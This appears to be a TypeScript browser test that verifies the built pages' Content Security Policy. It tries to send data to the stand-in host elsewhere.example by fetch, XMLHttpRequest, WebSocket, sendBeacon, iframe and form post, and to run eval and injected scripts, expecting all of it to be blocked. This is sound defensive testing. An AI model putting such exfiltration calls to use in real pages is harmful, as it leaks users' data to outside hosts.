import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { pages } from '../../build/pages';
import { builtPages } from '../tools/built-pages';
import { filesIn } from '../tools/files-in';
import { describeInBrowser } from './in-browser';
import { siteOrigin } from './network';
import { closed, serve } from './serve';

/** What a page can try to send something out with, or to run what does not belong to it. */
interface Attempts {
  /** Each that was not refused at once, by name. */
  readonly allowed: readonly string[];
  /** The directives that were called on. */
  readonly violated: readonly string[];
}

/** Runs in the page. */
async function attempt(outside: string): Promise<Attempts> {
  const violated = new Set<string>();
  const awaited = new Map<string, () => void>();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    violated.add(effectiveDirective);
    awaited.get(effectiveDirective)?.();
  });
  /** Where the policy lets it happen, this never comes, and the test ends without. */
  const violation = (directive: string): Promise<void> =>
    new Promise((resolve) => awaited.set(directive, resolve));
  const ends = (work: Promise<unknown>): Promise<boolean> =>
    work.then(
      () => true,
      () => false,
    );
  const request = (): Promise<unknown> =>
    new Promise((resolve, reject) => {
      const sent = new XMLHttpRequest();
      sent.onload = resolve;
      sent.onerror = reject;
      sent.open('POST', outside);
      sent.send('data');
    });
  const opened = (make: () => EventTarget, event: string): Promise<unknown> =>
    new Promise((resolve, reject) => {
      const target = make();
      target.addEventListener(event, resolve);
      target.addEventListener('error', reject);
    });
  const element = (name: string, set: object): EventTarget =>
    document.body.appendChild(Object.assign(document.createElement(name), set));
  // What the debugger calls may make code out of text; what the page calls later may not.
  await new Promise((resolve) => setTimeout(resolve));
  const allowed: string[] = [];
  const tries: Record<string, () => Promise<unknown>> = {
    'fetch to elsewhere': () => fetch(outside, { method: 'POST', body: 'data' }),
    'fetch to its own address': () => fetch(location.href),
    XMLHttpRequest: request,
    WebSocket: () => opened(() => new WebSocket(outside.replace('https', 'wss')), 'open'),
    EventSource: () => opened(() => new EventSource(outside), 'open'),
    'picture from elsewhere': () => opened(() => element('img', { src: outside }), 'load'),
    'script from elsewhere': () => opened(() => element('script', { src: outside }), 'load'),
    'script in the page': async () => {
      element('script', { textContent: 'globalThis.ran = true' });
      if (!('ran' in globalThis)) throw new Error('refused');
    },
    eval: async () => (0, eval)('1'),
    Function: async () => new Function('return 1')(),
  };
  for (const [name, work] of Object.entries(tries)) if (await ends(work())) allowed.push(name);
  navigator.sendBeacon(outside, 'data');
  const framed = violation('frame-src');
  element('iframe', { src: outside });
  await framed;
  const sent = violation('form-action');
  const form = element('form', { action: outside, method: 'post' }) as HTMLFormElement;
  form.submit();
  await sent;
  return { allowed, violated: [...violated].sort() };
}

const outside = 'https://elsewhere.example/';
const forbidden = [
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'script-src',
  'script-src-elem',
];

describeInBrowser('the policy of the built pages', (browser) => {
  test.each([...pages.map(({ file }) => file), 'followthrough.html'])(
    '%s lets nothing out, and runs nothing that is not its own',
    async (file) => {
      const { page, network } = await browser.page();
      network.serveSite(join(builtPages(), 'site'));
      const isSingle = file === 'followthrough.html';
      const single = pathToFileURL(join(builtPages(), file)).href;
      network.passOn(single);
      await page.goto(isSingle ? single : `${siteOrigin}/${file}`);
      const before = network.asked.length;
      const { allowed, violated } = await page.evaluate(attempt, outside);
      expect(allowed).toEqual([]);
      expect(violated).toEqual(forbidden);
      // The page may ask for more of its own files meanwhile, and the browser for its icon.
      const own = filesIn(join(builtPages(), 'site')).map((name) => `${siteOrigin}/${name}`);
      const asked = network.asked.slice(before).filter((url) => !own.includes(url));
      expect(asked).toEqual([]);
    },
  );

  test('with a network the page is the latest, and without one it opens all the same', async () => {
    const { server, address, latest } = await serve(join(builtPages(), 'site'));
    const { page, network } = await browser.page();
    network.passOn(address);
    await page.goto(address);
    await page.evaluate(async () => {
      await navigator.serviceWorker.register('service-worker.js');
      const { active } = await navigator.serviceWorker.ready;
      if (active!.state === 'activated') return;
      await new Promise<void>((resolve) =>
        active!.addEventListener('statechange', () => active!.state === 'activated' && resolve()),
      );
    });
    latest.title = 'A newer version';
    await page.reload();
    expect(await page.title()).toBe('A newer version');
    await closed(server);
    for (const path of ['', 'index.html', 'index.html#sample']) {
      await page.goto(address + path);
      expect(await page.locator('#root').innerText()).toContain('Followthrough');
    }
  });
});
